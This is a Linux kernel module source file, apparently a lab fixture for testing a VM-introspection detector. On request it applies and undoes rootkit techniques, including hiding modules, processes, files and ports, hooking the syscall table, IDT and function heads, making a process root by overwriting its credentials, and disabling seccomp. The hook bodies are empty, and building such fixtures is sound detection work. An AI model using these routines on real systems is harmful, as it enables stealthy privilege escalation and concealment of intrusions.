// SPDX-License-Identifier: Apache-2.0 OR MIT
/*
 * vmsight_tamper: changes a lab guest's kernel as rootkits do, when it is told to, undoes it, and says what it has changed.
 *
 * An ioctl on /dev/vmsight_tamper takes a struct tamper and gives it back with the addresses of what was changed. The layout is
 * that of `Message` in workload/src/serve/tamper.rs. What the kernel does not export is looked up as rootkits look it up.
 */
#include <linux/cred.h>
#include <linux/dcache.h>
#include <linux/errno.h>
#include <linux/fdtable.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/hrtimer.h>
#include <linux/hw_breakpoint.h>
#include <linux/elf.h>
#include <linux/idr.h>
#include <linux/kernel.h>
#include <linux/keyboard.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/miscdevice.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/namei.h>
#include <linux/net.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/path.h>
#include <linux/perf_event.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/ptrace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/timer.h>
#include <linux/uaccess.h>
#include <linux/uprobes.h>
#include <linux/version.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>
#include <net/inet_hashtables.h>
#include <net/sock.h>
#include <asm/desc.h>
#include <asm/pgtable.h>

#define TAMPER _IOWR('v', 2, struct tamper)

enum what {
	MODULE_LIST,		/* this module out of the list of modules */
	MODULE_SYSFS,		/* its kobject out of sysfs and the kset */
	MODULE_TREE,		/* out of the tree that finds modules by address */
	TASK_LIST,		/* process `pid` out of the list of tasks */
	TASK_PID,		/* its pids out of the tables of their namespaces */
	SYSCALL_TABLE,		/* entry `number` of the table of system calls */
	INLINE,			/* the head of the function `symbol` */
	FTRACE,			/* the function `symbol`, by ftrace */
	KPROBE,			/* the function `symbol`, by a kprobe */
	TCP_SEQ,		/* what /proc/net/tcp shows: without port `number` */
	IDT,			/* the gate of vector `number` */
	NETFILTER,		/* all packets that come in */
	CRED_WRITE,		/* process `pid` becomes root in the cred that it has */
	CRED_SHARE,		/* process `pid` gets the cred of process `number`, or of the kernel's own for 0 */
	PAGE_WX,		/* a page that is writable and executable */
	TEXT_ALIAS,		/* a second, writable mapping of the page of function `symbol` */
	SOCKET,			/* the listening socket of process `pid` out of its table */
	MODULE_MARK,		/* this module marked as one that is only being made */
	TIMER,			/* a timer */
	HRTIMER,		/* a high-resolution timer */
	WORK,			/* work that is queued after a while */
	KTHREAD,		/* a kernel thread */
	KEYBOARD,		/* all keys */
	UPROBE,			/* the first instruction of the program `symbol` */
	BREAKPOINT,		/* the function `symbol`, by a breakpoint of the processor */
	SECCOMP,		/* process `pid` without its seccomp filters */
	FILE_LIST,		/* file `symbol` out of what its directory has */
	FILE_NAME,		/* file `symbol` out of the table of names */
	WHATS,
};

struct tamper {
	u64 what;
	u64 undo;
	u64 pid;
	u64 number;
	char symbol[64];
	u64 object;	/* the address of what was changed */
	u64 hook;	/* the address of what it leads to now */
	u64 module;	/* the address of this struct module */
	u64 text;	/* the address of this module's code */
};

static unsigned long (*look_up)(const char *name);
static bool done[WHATS];

/* What is needed to undo each. */
static struct {
	struct task_struct *task;
	struct pid *pid;
	struct cred cred;
	const struct cred *real;
	void *at;
	u8 bytes[16];
	struct page *page;
	struct sock *sock;
	struct file *file;
	struct path path;
} saved[WHATS];

static int find_look_up(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);
	u8 *at = (u8 *)probe.addr;

	if (error)
		return error;
	unregister_kprobe(&probe);
	/* A probe at the head of a function may lie behind its ENDBR64. */
	if (((unsigned long)at & 15) == 4)
		at -= 4;
	look_up = (void *)at;
	return 0;
}

/* Writes to what is read-only, by a writable address of the same page. All of it lies in one page. */
static int patch(void *at, const void *bytes, size_t length)
{
	unsigned int level;
	struct page *page;
	void *alias;
	pte_t *entry = lookup_address((unsigned long)at, &level);

	if (!entry || !pte_present(*entry) || offset_in_page(at) + length > PAGE_SIZE)
		return -EFAULT;
	page = pfn_to_page(slow_virt_to_phys(at) >> PAGE_SHIFT);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(at), bytes, length);
	vunmap(alias);
	return 0;
}

/* The same, with what was there kept for the undoing. */
static int replace(enum what what, void *at, const void *bytes, size_t length)
{
	saved[what].at = at;
	memcpy(saved[what].bytes, at, sizeof(saved[what].bytes));
	return patch(at, bytes, length);
}

static struct task_struct *task_of(u64 number)
{
	struct pid *pid = find_get_pid(number);
	struct task_struct *task = get_pid_task(pid, PIDTYPE_TGID);

	put_pid(pid);
	return task;
}

static long call_hook(const struct pt_regs *regs)
{
	return -ENOSYS;
}

static void trap_hook(void)
{
}

static void notrace trace_hook(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}

static struct ftrace_ops trace_ops = {
	.func = trace_hook,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static int probe_hook(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe probe;

static u16 hidden_port;
static int (*seq_show)(struct seq_file *seq, void *v);

static int seq_hook(struct seq_file *seq, void *v)
{
	if (v != SEQ_START_TOKEN && ((struct sock *)v)->sk_num == hidden_port)
		return SEQ_SKIP;
	return seq_show(seq, v);
}

static unsigned int packet_hook(void *private, struct sk_buff *packet, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static const struct nf_hook_ops packet_ops = {
	.hook = packet_hook,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static int module_list(struct tamper *t)
{
	struct list_head *modules = (void *)look_up("modules");

	if (!modules)
		return -ENOENT;
	t->object = (u64)THIS_MODULE;
	if (t->undo)
		list_add_rcu(&THIS_MODULE->list, modules);
	else
		list_del_rcu(&THIS_MODULE->list);
	return 0;
}

static int module_sysfs(struct tamper *t)
{
	struct kobject *object = &THIS_MODULE->mkobj.kobj;

	t->object = (u64)object;
	if (t->undo)
		return kobject_add(object, NULL, "%s", THIS_MODULE->name);
	kobject_del(object);
	return 0;
}

static int module_tree(struct tamper *t)
{
	void (*change)(struct module *) = (void *)look_up(t->undo ? "mod_tree_insert" : "mod_tree_remove");
	struct mutex *mutex = (void *)look_up("module_mutex");

	if (!change || !mutex)
		return -ENOENT;
	t->object = (u64)THIS_MODULE;
	mutex_lock(mutex);
	change(THIS_MODULE);
	mutex_unlock(mutex);
	return 0;
}

static int module_mark(struct tamper *t)
{
	t->object = (u64)&THIS_MODULE->state;
	WRITE_ONCE(THIS_MODULE->state, t->undo ? MODULE_STATE_LIVE : MODULE_STATE_UNFORMED);
	return 0;
}

static int list_of_tasks(struct tamper *t)
{
	rwlock_t *lock = (void *)look_up("tasklist_lock");
	struct task_struct *task = saved[TASK_LIST].task;

	if (!lock)
		return -ENOENT;
	if (!t->undo) {
		task = saved[TASK_LIST].task = task_of(t->pid);
		if (!task)
			return -ESRCH;
	}
	t->object = (u64)task;
	write_lock_irq(lock);
	if (t->undo)
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	else
		/* Should it end meanwhile, the kernel takes it out once more. */
		list_del_init(&task->tasks);
	write_unlock_irq(lock);
	if (t->undo)
		put_task_struct(task);
	return 0;
}

static int pid_tables(struct tamper *t)
{
	spinlock_t *lock = (void *)look_up("pidmap_lock");
	struct pid *pid = saved[TASK_PID].pid;
	int level;

	if (!lock)
		return -ENOENT;
	if (!t->undo) {
		pid = saved[TASK_PID].pid = find_get_pid(t->pid);
		if (!pid)
			return -ESRCH;
	}
	t->object = (u64)pid;
	spin_lock_irq(lock);
	for (level = 0; level <= pid->level; level++) {
		struct upid *upid = &pid->numbers[level];

		if (t->undo)
			idr_alloc(&upid->ns->idr, pid, upid->nr, upid->nr + 1, GFP_ATOMIC);
		else
			idr_remove(&upid->ns->idr, upid->nr);
	}
	spin_unlock_irq(lock);
	if (t->undo)
		put_pid(pid);
	return 0;
}

static int syscall_table(struct tamper *t)
{
	unsigned long table = look_up("sys_call_table");
	unsigned long hook = (unsigned long)call_hook;

	if (!table)
		return -ENOENT;
	t->object = table + 8 * t->number;
	t->hook = hook;
	return replace(SYSCALL_TABLE, (void *)t->object, &hook, sizeof(hook));
}

static int inline_hook(struct tamper *t)
{
	static const u8 endbr[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
	u8 *at = (u8 *)look_up(t->symbol), jump[5] = { 0xe9 };
	long hook = (long)call_hook;
	s32 far;

	if (!at)
		return -ENOENT;
	if (!memcmp(at, endbr, sizeof(endbr)))
		at += sizeof(endbr);
	/* Or objtool takes the difference for a place of ours that is jumped to. */
	OPTIMIZER_HIDE_VAR(hook);
	far = (s32)(hook - (long)(at + sizeof(jump)));
	memcpy(jump + 1, &far, sizeof(far));
	t->object = (u64)at;
	t->hook = hook;
	return replace(INLINE, at, jump, sizeof(jump));
}

static int ftrace_hook(struct tamper *t)
{
	unsigned long at = look_up(t->undo ? "ftrace_location" : t->symbol);
	unsigned long (*location)(unsigned long) = (void *)look_up("ftrace_location");
	int error;

	if (t->undo) {
		error = unregister_ftrace_function(&trace_ops);
		ftrace_free_filter(&trace_ops);
		return error;
	}
	if (!at || !location)
		return -ENOENT;
	t->object = location(at);
	t->hook = (u64)trace_hook;
	if (!t->object)
		t->object = at;
	error = ftrace_set_filter_ip(&trace_ops, t->object, 0, 0);
	return error ? error : register_ftrace_function(&trace_ops);
}

static int kprobe_hook(struct tamper *t)
{
	int error;

	if (t->undo) {
		unregister_kprobe(&probe);
		return 0;
	}
	memset(&probe, 0, sizeof(probe));
	probe.addr = (void *)look_up(t->symbol);
	probe.pre_handler = probe_hook;
	if (!probe.addr)
		return -ENOENT;
	error = register_kprobe(&probe);
	t->object = (u64)probe.addr;
	t->hook = (u64)probe_hook;
	return error;
}

static int tcp_seq(struct tamper *t)
{
	struct seq_operations *ops = (void *)look_up("tcp4_seq_ops");
	unsigned long hook = (unsigned long)seq_hook;

	if (!ops)
		return -ENOENT;
	t->object = (u64)&ops->show;
	t->hook = hook;
	hidden_port = t->number;
	seq_show = ops->show;
	return replace(TCP_SEQ, &ops->show, &hook, sizeof(hook));
}

static int idt(struct tamper *t)
{
	gate_desc *table = (void *)look_up("idt_table"), gate;
	unsigned long hook = (unsigned long)trap_hook;

	if (!table || t->number > 255)
		return -ENOENT;
	gate = table[t->number];
	gate.offset_low = (u16)hook;
	gate.offset_middle = (u16)(hook >> 16);
	gate.offset_high = (u32)(hook >> 32);
	t->object = (u64)&table[t->number];
	t->hook = hook;
	return replace(IDT, &table[t->number], &gate, sizeof(gate));
}

static int netfilter(struct tamper *t)
{
	t->object = (u64)&packet_ops;
	t->hook = (u64)packet_hook;
	if (!t->undo)
		return nf_register_net_hook(&init_net, &packet_ops);
	nf_unregister_net_hook(&init_net, &packet_ops);
	return 0;
}

/* Not by commit_creds(), which keeps all that belongs to a user in step. */
static int cred_write(struct tamper *t)
{
	struct task_struct *task = task_of(t->pid);
	struct cred *cred;

	if (!task)
		return -ESRCH;
	cred = (struct cred *)task->real_cred;
	t->object = (u64)cred;
	if (!t->undo) {
		saved[CRED_WRITE].cred = *cred;
		cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
		cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
		cred->cap_permitted = cred->cap_effective = init_task.real_cred->cap_permitted;
	} else {
		struct cred *old = &saved[CRED_WRITE].cred;

		cred->uid = old->uid, cred->euid = old->euid, cred->suid = old->suid, cred->fsuid = old->fsuid;
		cred->gid = old->gid, cred->egid = old->egid, cred->sgid = old->sgid, cred->fsgid = old->fsgid;
		cred->cap_permitted = old->cap_permitted;
		cred->cap_effective = old->cap_effective;
	}
	put_task_struct(task);
	return 0;
}

static int cred_share(struct tamper *t)
{
	struct task_struct *task = task_of(t->pid), *other;
	const struct cred *cred;

	if (!task)
		return -ESRCH;
	if (!t->undo) {
		other = t->number ? task_of(t->number) : get_task_struct(&init_task);
		if (!other) {
			put_task_struct(task);
			return -ESRCH;
		}
		cred = get_cred(get_cred(rcu_dereference_protected(other->real_cred, 1)));
		put_task_struct(other);
		saved[CRED_SHARE].real = task->real_cred;
	} else {
		cred = saved[CRED_SHARE].real;
	}
	t->object = (u64)cred;
	rcu_assign_pointer(task->real_cred, cred);
	rcu_assign_pointer(task->cred, cred);
	put_task_struct(task);
	return 0;
}

static int page_wx(struct tamper *t)
{
	void (*flush)(unsigned long, unsigned long) = (void *)look_up("flush_tlb_kernel_range");
	static const u8 code[] = { 0x31, 0xc0, 0xc3 };	/* xor eax, eax; ret */
	unsigned int level;
	unsigned long at;
	pte_t *entry;

	if (t->undo) {
		vfree(saved[PAGE_WX].at);
		return 0;
	}
	if (!flush)
		return -ENOENT;
	at = (unsigned long)vzalloc(PAGE_SIZE);
	if (!at)
		return -ENOMEM;
	memcpy((void *)at, code, sizeof(code));
	/* set_memory_x() would complain, and mark the kernel as tainted for good. */
	entry = lookup_address(at, &level);
	if (!entry || level != PG_LEVEL_4K) {
		vfree((void *)at);
		return -EFAULT;
	}
	set_pte(entry, __pte(pte_val(*entry) & ~_PAGE_NX));
	flush(at, at + PAGE_SIZE);
	saved[PAGE_WX].at = (void *)at;
	t->object = at;
	return 0;
}

static int text_alias(struct tamper *t)
{
	void *at;

	if (t->undo) {
		vunmap(saved[TEXT_ALIAS].at);
		return 0;
	}
	at = (void *)look_up(t->symbol);
	if (!at)
		return -ENOENT;
	saved[TEXT_ALIAS].page = pfn_to_page(slow_virt_to_phys(at) >> PAGE_SHIFT);
	saved[TEXT_ALIAS].at = vmap(&saved[TEXT_ALIAS].page, 1, VM_MAP, PAGE_KERNEL);
	if (!saved[TEXT_ALIAS].at)
		return -ENOMEM;
	t->object = (u64)at & PAGE_MASK;
	t->hook = (u64)saved[TEXT_ALIAS].at;
	return 0;
}

static int hide_socket(struct tamper *t)
{
	struct task_struct *task;
	struct fdtable *table;
	struct file *file = NULL;
	struct sock *sock = saved[SOCKET].sock;
	unsigned int fd;

	if (t->undo) {
		t->object = (u64)sock;
		inet_hash(sock);
		fput(saved[SOCKET].file);
		return 0;
	}
	task = task_of(t->pid);
	if (!task)
		return -ESRCH;
	task_lock(task);
	if (task->files) {
		spin_lock(&task->files->file_lock);
		table = files_fdtable(task->files);
		for (fd = 0; fd < table->max_fds && !file; fd++) {
			struct file *one = rcu_dereference_protected(table->fd[fd], 1);
			struct socket *socket = one ? sock_from_file(one) : NULL;

			if (socket && socket->sk && socket->sk->sk_state == TCP_LISTEN &&
			    socket->sk->sk_family == AF_INET)
				file = get_file(one);
		}
		spin_unlock(&task->files->file_lock);
	}
	task_unlock(task);
	put_task_struct(task);
	if (!file)
		return -ENOENT;
	saved[SOCKET].file = file;
	sock = saved[SOCKET].sock = sock_from_file(file)->sk;
	inet_unhash(sock);
	t->object = (u64)sock;
	return 0;
}

/* Long enough for nothing to come of it. */
#define AFTER (1000UL * HZ)

static void timer_hook(struct timer_list *timer)
{
}

static DEFINE_TIMER(timer, timer_hook);

static int set_timer(struct tamper *t)
{
	t->object = (u64)&timer;
	t->hook = (u64)timer_hook;
	if (t->undo)
		del_timer_sync(&timer);
	else
		mod_timer(&timer, jiffies + AFTER);
	return 0;
}

static enum hrtimer_restart hrtimer_hook(struct hrtimer *timer)
{
	return HRTIMER_NORESTART;
}

static struct hrtimer hrtimer;

static int set_hrtimer(struct tamper *t)
{
	t->object = (u64)&hrtimer;
	t->hook = (u64)hrtimer_hook;
	if (t->undo) {
		hrtimer_cancel(&hrtimer);
		return 0;
	}
	hrtimer_init(&hrtimer, CLOCK_MONOTONIC, HRTIMER_MODE_REL);
	hrtimer.function = hrtimer_hook;
	hrtimer_start(&hrtimer, ktime_set(1000, 0), HRTIMER_MODE_REL);
	return 0;
}

static void work_hook(struct work_struct *work)
{
}

static DECLARE_DELAYED_WORK(work, work_hook);

static int queue_work_later(struct tamper *t)
{
	t->object = (u64)&work;
	t->hook = (u64)work_hook;
	if (t->undo)
		cancel_delayed_work_sync(&work);
	else
		queue_delayed_work(system_wq, &work, AFTER);
	return 0;
}

static int thread_hook(void *data)
{
	while (!kthread_should_stop())
		schedule_timeout_interruptible(AFTER);
	return 0;
}

static int start_thread_of_ours(struct tamper *t)
{
	struct task_struct *task = saved[KTHREAD].task;

	t->hook = (u64)thread_hook;
	if (t->undo) {
		kthread_stop(task);
		return 0;
	}
	task = kthread_run(thread_hook, NULL, "kworker/0:9");
	if (IS_ERR(task))
		return PTR_ERR(task);
	saved[KTHREAD].task = task;
	t->object = (u64)task;
	return 0;
}

static int keyboard_hook(struct notifier_block *block, unsigned long action, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block keyboard_block = { .notifier_call = keyboard_hook };

static int watch_keyboard(struct tamper *t)
{
	t->object = (u64)&keyboard_block;
	t->hook = (u64)keyboard_hook;
	return t->undo ? unregister_keyboard_notifier(&keyboard_block) : register_keyboard_notifier(&keyboard_block);
}

static int uprobe_hook(struct uprobe_consumer *consumer, struct pt_regs *regs)
{
	return 0;
}

static struct uprobe_consumer consumer = { .handler = uprobe_hook };

/* Where the first instruction of a program is in its file. */
static loff_t entry_of(struct file *file)
{
	struct elfhdr header;
	struct elf_phdr segment;
	loff_t at = 0;
	int number;

	if (kernel_read(file, &header, sizeof(header), &at) != sizeof(header))
		return 0;
	for (number = 0; number < header.e_phnum; number++) {
		at = header.e_phoff + number * sizeof(segment);
		if (kernel_read(file, &segment, sizeof(segment), &at) != sizeof(segment))
			return 0;
		if (segment.p_type == PT_LOAD && header.e_entry - segment.p_vaddr < segment.p_filesz)
			return header.e_entry - segment.p_vaddr + segment.p_offset;
	}
	return 0;
}

static int uprobe(struct tamper *t)
{
	struct file *file = saved[UPROBE].file;
	loff_t at;
	int error = 0;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0)
	static struct uprobe *registered;
#endif

	t->object = (u64)&consumer;
	t->hook = (u64)uprobe_hook;
	if (!t->undo) {
		file = saved[UPROBE].file = filp_open(t->symbol, O_RDONLY, 0);
		if (IS_ERR(file))
			return PTR_ERR(file);
	}
	at = entry_of(file);
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0)
	if (t->undo) {
		uprobe_unregister_nosync(registered, &consumer);
		uprobe_unregister_sync();
	} else {
		registered = uprobe_register(file_inode(file), at, 0, &consumer);
		error = PTR_ERR_OR_ZERO(registered);
	}
#else
	if (t->undo)
		uprobe_unregister(file_inode(file), at, &consumer);
	else
		error = uprobe_register(file_inode(file), at, &consumer);
#endif
	if (t->undo || error)
		fput(file);
	return error;
}

static void breakpoint_hook(struct perf_event *event, struct perf_sample_data *data, struct pt_regs *regs)
{
}

static int breakpoint(struct tamper *t)
{
	static struct perf_event * __percpu *events;
	struct perf_event_attr attributes;

	t->hook = (u64)breakpoint_hook;
	if (t->undo) {
		unregister_wide_hw_breakpoint(events);
		return 0;
	}
	hw_breakpoint_init(&attributes);
	attributes.bp_addr = look_up(t->symbol);
	attributes.bp_len = sizeof(long);
	attributes.bp_type = HW_BREAKPOINT_X;
	t->object = attributes.bp_addr;
	events = register_wide_hw_breakpoint(&attributes, breakpoint_hook, NULL);
	return PTR_ERR_OR_ZERO((void __force *)events);
}

/* As exploits do that break out of a container: the filters are left hanging, and nobody asks them any more. */
static int seccomp_off(struct tamper *t)
{
	struct task_struct *task = task_of(t->pid);

	if (!task)
		return -ESRCH;
	t->object = (u64)task;
	task->seccomp.mode = t->undo ? SECCOMP_MODE_FILTER : SECCOMP_MODE_DISABLED;
	if (t->undo)
		set_task_syscall_work(task, SECCOMP);
	else
		clear_task_syscall_work(task, SECCOMP);
	put_task_struct(task);
	return 0;
}

static int hide_from_directory(struct tamper *t)
{
	struct path *path = &saved[FILE_LIST].path;
	struct dentry *dentry, *directory;
	int error = t->undo ? 0 : kern_path(t->symbol, 0, path);

	if (error)
		return error;
	dentry = path->dentry;
	directory = dentry->d_parent;
	t->object = (u64)dentry;
	spin_lock(&directory->d_lock);
	spin_lock_nested(&dentry->d_lock, DENTRY_D_LOCK_NESTED);
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 8, 0)
	if (t->undo)
		hlist_add_head(&dentry->d_sib, &directory->d_children);
	else
		hlist_del_init(&dentry->d_sib);
#else
	if (t->undo)
		list_add(&dentry->d_child, &directory->d_subdirs);
	else
		list_del_init(&dentry->d_child);
#endif
	spin_unlock(&dentry->d_lock);
	spin_unlock(&directory->d_lock);
	if (t->undo)
		path_put(path);
	return 0;
}

static int hide_name(struct tamper *t)
{
	struct path *path = &saved[FILE_NAME].path;
	int error = t->undo ? 0 : kern_path(t->symbol, 0, path);

	if (error)
		return error;
	t->object = (u64)path->dentry;
	if (t->undo) {
		d_rehash(path->dentry);
		path_put(path);
	} else {
		d_drop(path->dentry);
	}
	return 0;
}

static int (*const means[WHATS])(struct tamper *) = {
	[MODULE_LIST] = module_list,
	[MODULE_SYSFS] = module_sysfs,
	[MODULE_TREE] = module_tree,
	[TASK_LIST] = list_of_tasks,
	[TASK_PID] = pid_tables,
	[SYSCALL_TABLE] = syscall_table,
	[INLINE] = inline_hook,
	[FTRACE] = ftrace_hook,
	[KPROBE] = kprobe_hook,
	[TCP_SEQ] = tcp_seq,
	[IDT] = idt,
	[NETFILTER] = netfilter,
	[CRED_WRITE] = cred_write,
	[CRED_SHARE] = cred_share,
	[PAGE_WX] = page_wx,
	[TEXT_ALIAS] = text_alias,
	[SOCKET] = hide_socket,
	[MODULE_MARK] = module_mark,
	[TIMER] = set_timer,
	[HRTIMER] = set_hrtimer,
	[WORK] = queue_work_later,
	[KTHREAD] = start_thread_of_ours,
	[KEYBOARD] = watch_keyboard,
	[UPROBE] = uprobe,
	[BREAKPOINT] = breakpoint,
	[SECCOMP] = seccomp_off,
	[FILE_LIST] = hide_from_directory,
	[FILE_NAME] = hide_name,
};

/* Those that replace bytes are undone by putting the old ones back. */
static const u8 replaced[WHATS] = {
	[SYSCALL_TABLE] = 8, [INLINE] = 5, [TCP_SEQ] = 8, [IDT] = 16,
};

static long tamper(struct tamper *t)
{
	int error;

	if (t->what >= WHATS)
		return -EINVAL;
	/* Nothing is done twice, and nothing undone that was not done. */
	if (done[t->what] != !!t->undo)
		return -EALREADY;
	if (t->undo && replaced[t->what]) {
		t->object = (u64)saved[t->what].at;
		error = patch(saved[t->what].at, saved[t->what].bytes, replaced[t->what]);
	} else {
		error = means[t->what](t);
	}
	if (!error)
		done[t->what] = !t->undo;
	return error;
}

static long tamper_ioctl(struct file *file, unsigned int command, unsigned long argument)
{
	static DEFINE_MUTEX(one_at_a_time);
	void __user *user = (void __user *)argument;
	struct tamper t;
	long error;

	if (command != TAMPER)
		return -ENOTTY;
	if (copy_from_user(&t, user, sizeof(t)))
		return -EFAULT;
	t.symbol[sizeof(t.symbol) - 1] = 0;
	t.object = t.hook = 0;
	t.module = (u64)THIS_MODULE;
	t.text = (u64)call_hook & PAGE_MASK;
	mutex_lock(&one_at_a_time);
	error = tamper(&t);
	mutex_unlock(&one_at_a_time);
	if (!error && copy_to_user(user, &t, sizeof(t)))
		error = -EFAULT;
	return error;
}

static const struct file_operations tamper_operations = {
	.owner = THIS_MODULE,
	.unlocked_ioctl = tamper_ioctl,
};

static struct miscdevice tamper_device = {
	.minor = MISC_DYNAMIC_MINOR,
	.name = "vmsight_tamper",
	.fops = &tamper_operations,
	.mode = 0600,
};

static int __init tamper_init(void)
{
	int error = find_look_up();

	return error ? error : misc_register(&tamper_device);
}

static void __exit tamper_exit(void)
{
	misc_deregister(&tamper_device);
}

module_init(tamper_init);
module_exit(tamper_exit);

MODULE_DESCRIPTION("Changes a lab guest's kernel as rootkits do");
MODULE_LICENSE("Dual MIT/GPL");
